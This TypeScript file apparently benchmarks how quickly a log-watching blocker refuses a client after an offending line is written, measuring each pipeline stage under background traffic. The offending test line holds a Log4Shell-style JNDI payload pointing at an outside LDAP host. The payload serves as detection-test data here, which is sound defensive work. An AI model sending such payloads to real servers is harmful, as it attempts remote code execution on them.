/**
 * From the append of an offending line until its sender is refused, under a background load of ordinary lines. Nothing is
 * simulated: a real log, nats-server, the four services, and nginx or the packet filter of a kernel.
 */
import { appendFileSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Clock } from '#libs/clock/clock.ts';
import { SystemClock } from '#libs/clock/system.ts';
import type { Decision } from '#libs/domain/decision.ts';
import { decisionFromMessage } from '#libs/wire/decision.ts';
import type { Stack, StackOptions } from '#services/standalone/stack/stack.ts';
import { percentile } from '#services/standalone/summary.ts';
import { cpuSeconds, withStack } from './stack.ts';

/** Where clients are refused. */
export interface Place {
  /** For the stack, when nginx is in it. */
  readonly nginx?: StackOptions['nginx'];
  /** Of the run: each in a network of its own, as where many are blocked, their neighbours are before they do anything. */
  addressOf(i: number): string;
  /** Called when the stack is up. @param folder for whatever is needed on the way */
  begin(stack: Stack, folder: string): Promise<void>;
  /** Has a client with this address knock until it is refused. @returns when that was, Unix ms */
  refusal(address: string, offend: () => void): Promise<{ writtenMs: number; refusedMs: number }>;
  end(): Promise<void>;
}

export interface LatencyOptions {
  /** Ordinary lines a second beside the measured ones. */
  readonly rate: number;
  readonly runs: number;
  /** Offending lines in each run. */
  readonly samples: number;
  /** Another one for each run. */
  readonly openPlace: (clock: Clock, run: number) => Promise<Place>;
}

interface Quantiles {
  readonly p50: number;
  readonly p99: number;
}

export interface LatencyResult {
  readonly latency_ms: Quantiles & { readonly max: number; readonly n: number };
  readonly stages_ms: Record<string, Quantiles>;
  /** Of the processes of the stack without nginx, and of this one, which makes the lines. */
  readonly cpu_cores: Readonly<Record<string, number>>;
}

const LOAD_EVERY_MS = 10;
const PAUSE_MS = 5;

interface Sample {
  readonly address: string;
  readonly writtenMs: number;
  readonly refusedMs: number;
}

export async function benchLatency(options: LatencyOptions): Promise<LatencyResult> {
  const all: Sample[] = [];
  const stages: Record<string, number[]> = {};
  const cores: Record<string, number[]> = {};
  for (let run = 0; run < options.runs; run++) all.push(...(await benchRun(options, run, stages, cores)));
  const latencies = all.map(({ writtenMs, refusedMs }) => refusedMs - writtenMs);
  return {
    latency_ms: {
      p50: percentile(latencies, 0.5),
      p99: percentile(latencies, 0.99),
      max: percentile(latencies, 1),
      n: latencies.length,
    },
    stages_ms: Object.fromEntries(
      Object.entries(stages).map(([stage, ms]) => [
        stage,
        { p50: percentile(ms, 0.5), p99: percentile(ms, 0.99) },
      ]),
    ),
    cpu_cores: Object.fromEntries(Object.entries(cores).map(([name, each]) => [name, percentile(each, 0.5)])),
  };
}

/** Begins to measure. Returns how many cores each process has used since. */
function cpuMeter(stack: Stack, clock: Clock): () => Record<string, number> {
  const read = (): Record<string, number> => {
    const { user, system } = process.cpuUsage();
    return { ...cpuSeconds(stack), load: (user + system) / 1e6 };
  };
  const before = read();
  const startMs = clock.elapsed();
  return () => {
    const seconds = (clock.elapsed() - startMs) / 1000;
    return Object.fromEntries(
      Object.entries(read()).map(([name, used]) => [name, (used - before[name]) / seconds]),
    );
  };
}

async function benchRun(
  { rate, samples, openPlace }: LatencyOptions,
  run: number,
  stages: Record<string, number[]>,
  cores: Record<string, number[]>,
): Promise<Sample[]> {
  const clock = new SystemClock();
  const folder = mkdtempSync(join(tmpdir(), 'weir-bench-'));
  const log = join(folder, 'source.log');
  writeFileSync(log, '');
  const place = await openPlace(clock, run);
  const { nginx } = place;
  const source = { name: 'bench', type: 'file', path: log };
  const config = { enforce: nginx !== undefined, loopback: true, logLevel: 'warn', source };
  const measured: Sample[] = [];
  const measure = async (stack: Stack) => {
    await place.begin(stack, folder);
    const stopping = new AbortController();
    const load = background(log, rate, clock, stopping.signal);
    await clock.sleep(1000);
    const used = cpuMeter(stack, clock);
    for (let i = 0; i < samples; i++) {
      const address = place.addressOf(i);
      const offend = () =>
        appendFileSync(log, lineOf(clock.now(), address, '/', '${jndi:ldap://198.51.100.7/a}'));
      measured.push({ address, ...(await place.refusal(address, offend)) });
      await clock.sleep(PAUSE_MS);
    }
    for (const [name, each] of Object.entries(used())) {
      cores[name] ??= [];
      cores[name].push(each);
    }
    stopping.abort();
    await load;
    await addStages(stack, measured, stages);
  };
  try {
    await withStack({ clock, config, ...(nginx ? { nginx } : {}) }, measure, folder);
  } finally {
    await place.end();
  }
  return measured;
}

/** Ordinary lines at a steady rate, from addresses that nobody measures. */
async function background(log: string, rate: number, clock: Clock, signal: AbortSignal): Promise<void> {
  const startMs = clock.elapsed();
  for (let sent = 0; !signal.aborted; ) {
    const due = Math.floor(((clock.elapsed() - startMs) / 1000) * rate);
    const lines: string[] = [];
    for (; sent < due; sent++) {
      const address = `100.${64 + (sent % 60)}.${(sent >>> 6) & 255}.${1 + ((sent * 7) % 250)}`;
      lines.push(lineOf(clock.now(), address, `/products/${sent % 997}`, 'Mozilla/5.0 (X11; Linux x86_64)'));
    }
    if (lines.length > 0) appendFileSync(log, lines.join(''));
    await clock.sleep(LOAD_EVERY_MS, signal);
  }
}

/** A line of Weir's own log format. No text needs to be escaped. */
function lineOf(nowMs: number, address: string, uri: string, agent: string): string {
  const time = (nowMs / 1000).toFixed(3);
  return `{"v":1,"t":${time},"ip":"${address}","h":"shop.example","m":"GET","u":"${uri}","p":"HTTP/1.1","s":200,"b":612,"rt":0.002,"ua":"${agent}","rf":"","weir":""}\n`;
}

/** What the ledger knows about when each sample passed which stage. */
async function addStages(
  stack: Stack,
  samples: readonly Sample[],
  into: Record<string, number[]>,
): Promise<void> {
  const appliedMs = new Map<string | null | undefined, number>();
  const byAddress = new Map<string, Decision>();
  await stack.until('the last reports', async () => {
    for await (const { applied, decisions } of stack.controlPlane.export({})) {
      for (const { id, appliedMs: at } of applied) appliedMs.set(id, at ?? 0);
      for (const decision of decisions.map(decisionFromMessage)) byAddress.set(decision.value, decision);
    }
    return appliedMs.size >= samples.length;
  });
  for (const { address, writtenMs, refusedMs } of samples) {
    const decision = byAddress.get(address);
    if (!decision) continue;
    const { ingestedMs, publishedMs, storedMs, detectedMs, decidedMs } = decision.stages;
    const applied = appliedMs.get(decision.id) ?? 0;
    const times = {
      read: ingestedMs - writtenMs,
      batch: publishedMs - ingestedMs,
      store: storedMs - publishedMs,
      detect: detectedMs - storedMs,
      decide: decidedMs - detectedMs,
      enforce: applied - decidedMs,
      see: refusedMs - applied,
    };
    for (const [stage, ms] of Object.entries(times)) {
      into[stage] ??= [];
      into[stage].push(ms);
    }
  }
}
